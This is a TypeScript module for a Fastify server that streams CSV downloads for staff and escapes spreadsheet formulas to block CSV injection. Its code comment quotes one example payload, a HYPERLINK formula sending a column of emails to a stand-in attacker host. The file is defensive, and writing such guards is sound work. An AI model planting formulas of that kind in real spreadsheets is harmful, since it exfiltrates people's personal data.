import { type Stringifier, stringify } from "csv-stringify";
import type { FastifyReply } from "fastify";

/**
 * A CSV stream for staff to open in Excel or Sheets. Visitors write most of what goes in (names,
 * companies, UTM fields), and a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab
 * or a carriage return as a formula: `=HYPERLINK("https://evil.example/?d="&D2:D500,"Open")` would
 * send the sheet's emails away in a click. `escape_formulas` prefixes such cells with `'`, which
 * shows the text as typed (OWASP's advice for CSV injection). Every export goes through here.
 */
export function spreadsheetCsv(columns: ReadonlyArray<{ key: string; header: string }>): Stringifier {
  return stringify({ header: true, columns: [...columns], escape_formulas: true });
}

/**
 * Answers with every row of `rows` as a CSV download, streamed as the rows come, with the columns
 * in order (`[key, header]`). A failure while reading ends the download with an error.
 */
export function csvAnswer<Row extends object>(
  reply: FastifyReply,
  {
    columns,
    rows,
    filename,
  }: { columns: ReadonlyArray<readonly [keyof Row & string, string]>; rows: AsyncIterable<Row>; filename: string },
): FastifyReply {
  const csv = spreadsheetCsv(columns.map(([key, header]) => ({ key, header })));
  (async () => {
    for await (const row of rows) csv.write(row);
    csv.end();
  })().catch((error: unknown) => csv.destroy(error instanceof Error ? error : new Error(String(error))));
  return reply
    .type("text/csv; charset=utf-8")
    .header("content-disposition", `attachment; filename="${filename}"`)
    .header("cache-control", "no-store")
    .send(csv);
}
